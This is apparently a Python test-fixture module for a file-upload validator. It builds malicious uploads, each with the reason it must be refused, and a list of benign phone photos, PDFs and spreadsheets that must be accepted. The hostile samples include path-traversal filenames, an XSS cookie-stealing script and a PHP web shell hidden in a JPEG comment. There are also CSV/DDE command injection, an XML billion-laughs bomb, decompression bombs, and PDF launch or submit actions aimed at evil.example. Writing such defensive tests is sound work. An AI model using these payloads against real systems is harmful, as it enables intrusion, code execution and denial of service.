"""Files that strangers might send, made by code: each with its name and the reason it must be refused for.

And, beside it, the files that real people send, which must all be accepted.
"""

from dataclasses import dataclass
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name

from app.evidence.domain import LARGEST_FILE
from app.evidence.errors import Reason
from tests.evidence import pdfs, pictures, workbooks

MACRO_TYPE = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
SHEET_TYPE = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + bytes(2000)
    + b"This program cannot be run"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(3000)
BILLION = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><worksheet>&c;</worksheet>'
)


@dataclass(frozen=True)
class Sent:
    """A file as it is sent."""

    name: str
    content: bytes
    reason: Reason | None = None


@cache
def attacks() -> tuple[Sent, ...]:
    """All files that must be refused, with the reason."""
    return (*_names(), *_disguised(), *_polyglots(), *_pictures(), *_pdfs(), *_workbooks())


def _names() -> list[Sent]:
    jpeg = pictures.saved(pictures.photo(), "JPEG")
    return [
        Sent("设备照片\u202egpj.jpg", jpeg, Reason.NAME),
        Sent("\u2066exe\u2069.jpg", jpeg, Reason.NAME),
        Sent("../../etc/cron.d/job.jpg", jpeg, Reason.NAME),
        Sent("..\\..\\windows\\win.jpg", jpeg, Reason.NAME),
        Sent("/etc/passwd.png", jpeg, Reason.NAME),
        Sent("photo.exe.jpg", jpeg, Reason.TWO_ENDINGS),
        Sent("report.php.pdf", pdfs.written(pdfs.plain()), Reason.TWO_ENDINGS),
        Sent("ledger.html.xlsx", workbooks.workbook(), Reason.TWO_ENDINGS),
        Sent("photo.jpg.exe", EXE, Reason.UNKNOWN_TYPE),
        Sent("no-ending", jpeg, Reason.UNKNOWN_TYPE),
        Sent(".jpg", b"", Reason.UNKNOWN_TYPE),
        Sent("animation.gif", b"GIF89a/*" + bytes(80) + b"*/=1;alert(1)", Reason.UNKNOWN_TYPE),
        Sent("logo.svg", SVG, Reason.UNKNOWN_TYPE),
        Sent("page.html", HTML, Reason.UNKNOWN_TYPE),
        Sent("all.zip", workbooks.archive({"a.exe": EXE}), Reason.UNKNOWN_TYPE),
        Sent("IMG_0001.HEIC", HEIC, Reason.HEIC),
        Sent("台账.xls", OLE, Reason.OLD_EXCEL),
        Sent("台账.csv", b"=cmd|'/C calc'!A0,1", Reason.CSV),
        Sent("宏.xlsm", workbooks.again({"xl/vbaProject.bin": OLE}), Reason.MACROS),
        Sent("说明.docx", workbooks.archive({"word/document.xml": b"<x/>"}), Reason.WORD),
    ]


def _disguised() -> list[Sent]:
    """The name promises something else than the content is."""
    return [
        Sent("empty.jpg", b"", Reason.EMPTY),
        Sent("empty.pdf", b"", Reason.EMPTY),
        Sent("large.pdf", b"%PDF-1.4\n" + bytes(LARGEST_FILE + 1 - 9), Reason.TOO_LARGE),
        Sent("setup.jpg", EXE, Reason.NOT_WHAT_IT_SAYS),
        Sent("setup.pdf", EXE, Reason.NOT_WHAT_IT_SAYS),
        Sent("setup.xlsx", EXE, Reason.NOT_WHAT_IT_SAYS),
        Sent("page.png", HTML, Reason.NOT_WHAT_IT_SAYS),
        Sent("logo.png", SVG, Reason.NOT_WHAT_IT_SAYS),
        Sent("page.pdf", HTML + b"\n%PDF-1.4\n", Reason.NOT_WHAT_IT_SAYS),
        Sent("iphone.jpg", HEIC, Reason.HEIC),
        Sent("old.xlsx", OLE, Reason.ENCRYPTED),
        Sent("ole.pdf", OLE, Reason.NOT_WHAT_IT_SAYS),
        Sent("script.webp", b"GIF89a=1;alert(1);//" + bytes(100), Reason.NOT_WHAT_IT_SAYS),
        Sent("picture.pdf", pictures.saved(pictures.photo(), "PNG"), Reason.NOT_WHAT_IT_SAYS),
        Sent("paper.jpg", pdfs.written(pdfs.plain()), Reason.NOT_WHAT_IT_SAYS),
        Sent("jpeg.png", pictures.saved(pictures.photo(), "JPEG"), Reason.NOT_WHAT_IT_SAYS),
        Sent("text.pdf", b"just a text", Reason.NOT_WHAT_IT_SAYS),
        Sent("word.xlsx", workbooks.archive({"[Content_Types].xml": b"<Types/>"}), Reason.NOT_WHAT_IT_SAYS),
        Sent("plain-zip.xlsx", workbooks.archive({"a.txt": b"x"}), Reason.EMBEDDED),
    ]


def _polyglots() -> list[Sent]:
    jpeg, paper = pictures.saved(pictures.photo(), "JPEG"), pdfs.written(pdfs.plain())
    zipped = workbooks.archive({"run.exe": EXE})
    text = pictures.chunk(b"tEXt", b"Comment\0" + HTML)
    return [
        Sent("pdf-in-comment.jpg", pictures.with_comment(jpeg, paper), Reason.MIXED),
        Sent("pdf-behind.jpg", jpeg + paper, Reason.MIXED),
        Sent("zip-behind.jpg", jpeg + zipped, Reason.MIXED),
        Sent("php-in-comment.jpg", pictures.with_comment(jpeg, b"<?php system($_GET[1]); ?>"), Reason.MIXED),
        Sent("html-in-text.png", pictures.png(8, 8, extra=text), Reason.MIXED),
        Sent("zip-behind.png", pictures.png(8, 8) + zipped, Reason.MIXED),
        Sent("zip-behind.pdf", paper + zipped, Reason.MIXED),
        Sent("html-behind.pdf", paper + HTML, Reason.MIXED),
        Sent("exe-behind.pdf", paper + EXE, Reason.MIXED),
        Sent("pdf-behind.xlsx", workbooks.workbook() + paper, Reason.MIXED),
        Sent("pdf-within.xlsx", workbooks.archive({"a.pdf": b""})[:30] + paper + workbooks.workbook(), Reason.MIXED),
        Sent("html-in.webp", pictures.saved(pictures.photo(), "WEBP", xmp=HTML), Reason.MIXED),
    ]  # fmt: skip


def _pictures() -> list[Sent]:
    jpeg, paper = pictures.saved(pictures.photo(), "JPEG"), pictures.saved(pictures.photo(), "PNG")
    return [
        Sent("50000x50000.png", pictures.png(50_000, 50_000), Reason.TOO_MANY_PIXELS),
        Sent("65000x65000.jpg", pictures.jpeg_of_any_size(65_000, 65_000), Reason.TOO_MANY_PIXELS),
        Sent("9000x8000.png", pictures.png(9000, 8000), Reason.TOO_MANY_PIXELS),
        Sent("half.jpg", jpeg[: len(jpeg) // 2], Reason.DAMAGED),
        Sent("half.png", paper[: len(paper) // 2], Reason.DAMAGED),
        Sent("head.jpg", jpeg[:30], Reason.DAMAGED),
        Sent("no-data.png", pictures.png(64, 64, data=b"\0"), Reason.DAMAGED),
        Sent("half.webp", pictures.saved(pictures.photo(), "WEBP")[:400], Reason.DAMAGED),
    ]


def _pdfs() -> list[Sent]:
    file = Dictionary(Type=Name.Filespec, F="a.exe", EF=Dictionary())
    deep = Array([])
    for _ in range(60):
        deep = Array([deep, Dictionary(AA=1)])
    paper = pdfs.written(pdfs.plain())
    locked = pikepdf.Encryption(owner="owner", user="user")
    limited = pikepdf.Encryption(owner="owner", user="")
    bomb = pdfs.deflated_zeros(150 << 20)
    return [
        Sent("js-at-start.pdf", pdfs.with_root(OpenAction=pdfs.script()), Reason.SCRIPT),
        Sent("js-names.pdf", pdfs.with_root(Names=Dictionary(JavaScript=Dictionary(Names=Array([])))), Reason.SCRIPT),
        Sent("js-in-field.pdf", pdfs.with_annotation(Subtype=Name.Widget, AA=Dictionary(K=pdfs.script())), Reason.SCRIPT),
        Sent("js-on-click.pdf", pdfs.with_annotation(Subtype=Name.Link, A=pdfs.script()), Reason.SCRIPT),
        Sent("xfa.pdf", pdfs.with_root(AcroForm=Dictionary(XFA=pikepdf.String("<x/>"))), Reason.SCRIPT),
        Sent("launch.pdf", pdfs.with_root(OpenAction=pdfs.action(S=Name.Launch, F="calc.exe")), Reason.SCRIPT),
        Sent("launch-on-click.pdf", pdfs.with_annotation(Subtype=Name.Link, A=pdfs.action(S=Name.Launch, F="a")), Reason.SCRIPT),
        Sent("uri-by-itself.pdf", pdfs.with_root(OpenAction=pdfs.action(S=Name.URI, URI="http://evil.example")), Reason.SCRIPT),
        Sent("submit.pdf", pdfs.with_annotation(Subtype=Name.Widget, A=pdfs.action(S=Name.SubmitForm, F="http://evil.example")), Reason.SCRIPT),
        Sent("remote.pdf", pdfs.with_annotation(Subtype=Name.Link, A=pdfs.action(S=Name.GoToR, F="//evil/x.pdf")), Reason.SCRIPT),
        Sent("page-opens.pdf", pdfs.changed(lambda pdf: pdf.pages[0].__setitem__("/AA", Dictionary(O=pdfs.script()))), Reason.SCRIPT),
        Sent("attachment.pdf", pdfs.with_root(Names=Dictionary(EmbeddedFiles=Dictionary(Names=Array(["a", file])))), Reason.EMBEDDED),
        Sent("attached-note.pdf", pdfs.with_annotation(Subtype=Name.FileAttachment, FS=file), Reason.EMBEDDED),
        Sent("rich-media.pdf", pdfs.with_annotation(Subtype=Name.RichMedia), Reason.EMBEDDED),
        Sent("3d.pdf", pdfs.with_annotation(Subtype=Name("/3D")), Reason.EMBEDDED),
        Sent("locked.pdf", pdfs.written(pdfs.plain(), encryption=locked), Reason.ENCRYPTED),
        Sent("limited.pdf", pdfs.written(pdfs.plain(), encryption=limited), Reason.ENCRYPTED),
        Sent("bomb.pdf", pdfs.with_stream(bomb, Filter=Name.FlateDecode), Reason.TOO_COMPLEX),
        Sent("bomb-twice.pdf", pdfs.with_stream(bomb, Filter=Array([Name.FlateDecode, Name.FlateDecode])), Reason.TOO_COMPLEX),
        Sent("many-filters.pdf", pdfs.with_stream(b"x", Filter=Array([Name.ASCIIHexDecode] * 9)), Reason.TOO_COMPLEX),
        Sent("huge-picture.pdf", pdfs.with_stream(b"x", Width=60_000, Height=60_000), Reason.TOO_COMPLEX),
        Sent("deep.pdf", pdfs.with_root(Deep=deep), Reason.TOO_COMPLEX),
        Sent("501-pages.pdf", pdfs.written(pdfs.plain(501)), Reason.TOO_MANY_PAGES),
        Sent("one-page-100000-times.pdf", pdfs.same_page_again(100_000), Reason.TOO_MANY_PAGES),
        Sent("half.pdf", b"%PDF-1.7\n" + paper[9:200], Reason.DAMAGED),
        Sent("head.pdf", b"%PDF-1.7\n%%EOF", Reason.DAMAGED),
    ]  # fmt: skip


def _workbooks() -> list[Sent]:
    types, sheet = workbooks.part(workbooks.CONTENT_TYPES), workbooks.part(workbooks.SHEET)
    whole = workbooks.workbook()
    relation = b'<Relationship Id="rId99" Type="http://x/%s" Target="%s"%s/></Relationships>'
    outside = b' TargetMode="External"'
    changed = workbooks.replaced
    close = b"</Relationships>"
    dde = sheet.replace(b"<f>", b"<f>cmd|'/C calc'!A0+", 1)
    return [
        Sent("macros.xlsx", workbooks.again({"xl/vbaProject.bin": OLE}), Reason.MACROS),
        Sent("macro-type.xlsx", changed(workbooks.CONTENT_TYPES, SHEET_TYPE, MACRO_TYPE), Reason.MACROS),
        Sent("macro-sheet.xlsx", workbooks.again({"xl/macrosheets/sheet1.xml": b"<x/>"}), Reason.MACROS),
        Sent("activex.xlsx", workbooks.again({"xl/activeX/activeX1.xml": b"<x/>"}), Reason.MACROS),
        Sent("linked-book.xlsx", workbooks.again({"xl/externalLinks/externalLink1.xml": b"<x/>"}), Reason.EXTERNAL),
        Sent("connection.xlsx", workbooks.again({"xl/connections.xml": b"<x/>"}), Reason.EXTERNAL),
        Sent("remote-picture.xlsx", changed(workbooks.RELATIONS, close, relation % (b"image", b"http://evil.example/a.png", outside)), Reason.EXTERNAL),
        Sent("dde.xlsx", workbooks.again({workbooks.SHEET: dde}), Reason.EXTERNAL),
        Sent("ole.xlsx", workbooks.again({"xl/embeddings/oleObject1.bin": OLE}), Reason.EMBEDDED),
        Sent("exe-as-picture.xlsx", workbooks.again({"xl/media/image1.png": EXE}), Reason.EMBEDDED),
        Sent("exe-inside.xlsx", workbooks.again({"xl/media/setup.exe": EXE}), Reason.EMBEDDED),
        Sent("zip-inside.xlsx", workbooks.again({"xl/media/image1.png": workbooks.archive({"a": b"b"})}), Reason.EMBEDDED),
        Sent("nested.xlsx", workbooks.again({"inner.zip": workbooks.archive({"0": bytes(10 << 20)})}), Reason.EMBEDDED),
        Sent("entities.xlsx", workbooks.again({workbooks.SHEET: BILLION}), Reason.TOO_COMPLEX),
        Sent("entities-utf16.xlsx", workbooks.again({workbooks.SHEET: BILLION.decode().encode("utf-16")}), Reason.TOO_COMPLEX),
        Sent("bomb.xlsx", workbooks.again({"xl/media/zeros.png": bytes(150 << 20)}), Reason.TOO_COMPLEX),
        Sent("lying.xlsx", workbooks.lying_about_sizes(), Reason.DAMAGED),
        Sent("overlapping.xlsx", workbooks.overlapping(), Reason.TOO_COMPLEX),
        Sent("1001-parts.xlsx", workbooks.again({f"xl/media/{n}.png": b"\x89PNG" for n in range(1001)}), Reason.TOO_COMPLEX),
        Sent("traversal.xlsx", workbooks.again({"../../outside.xml": b"<x/>"}), Reason.MIXED),
        Sent("half.xlsx", whole[: len(whole) // 2], Reason.DAMAGED),
        Sent("no-book.xlsx", workbooks.archive({"[Content_Types].xml": types}), Reason.DAMAGED),
    ]  # fmt: skip


@cache
def good_files() -> tuple[Sent, ...]:
    """All files that must be accepted."""
    photo = pictures.photo()
    sixteen = pictures.sixteen_bits()
    tail = b"MotionPhoto_Data" + bytes(range(256)) * 200
    return (
        Sent("IMG_20261124_101112.jpg", pictures.phone_jpeg()),
        Sent("IMG_横拍.JPEG", pictures.phone_jpeg(orientation=1)),
        Sent("照片 (3).jpg", pictures.phone_jpeg(orientation=8)),
        Sent("motion.jpg", pictures.phone_jpeg() + tail),
        Sent("large-sensor.jpg", pictures.phone_jpeg(4000, 3000)),
        Sent("cmyk.jpg", pictures.saved(photo.convert("CMYK"), "JPEG")),
        Sent("grey.jpg", pictures.saved(photo.convert("L"), "JPEG")),
        Sent("progressive.jpg", pictures.saved(photo, "JPEG", progressive=True)),
        Sent("sixteen.png", sixteen),
        Sent("截图.png", pictures.saved(photo, "PNG")),
        Sent("palette.png", pictures.saved(photo.quantize(64), "PNG")),
        Sent("transparent.png", pictures.saved(photo.convert("RGBA"), "PNG")),
        Sent("wechat.webp", pictures.saved(photo, "WEBP", quality=80)),
        Sent("lossless.webp", pictures.saved(photo.convert("RGBA"), "WEBP", lossless=True)),
        Sent("证书.pdf", pdfs.written(pdfs.plain(3))),
        Sent("goes-to-page.pdf", pdfs.changed(lambda pdf: pdf.Root.__setitem__("/OpenAction", Array([pdf.pages[0].obj, Name.Fit])))),
        Sent("with-link.pdf", pdfs.with_annotation(Subtype=Name.Link, A=pdfs.action(S=Name.URI, URI="https://example.com"))),
        Sent("object-streams.pdf", pdfs.written(pdfs.plain(40), object_stream_mode=pikepdf.ObjectStreamMode.generate)),
        Sent("台账.xlsx", workbooks.workbook()),
        Sent("三张表.xlsx", workbooks.workbook(3000, 3)),
        Sent("printer.xlsx", workbooks.again({"xl/printerSettings/printerSettings1.bin": bytes(900)})),
        Sent("长" * 300 + ".jpg", pictures.phone_jpeg()),
        Sent('引号"换行\r\nX-Evil: 1;.jpg', pictures.phone_jpeg()),
        Sent("2026.11.24 报表.v2.pdf", pdfs.written(pdfs.plain())),
    )  # fmt: skip
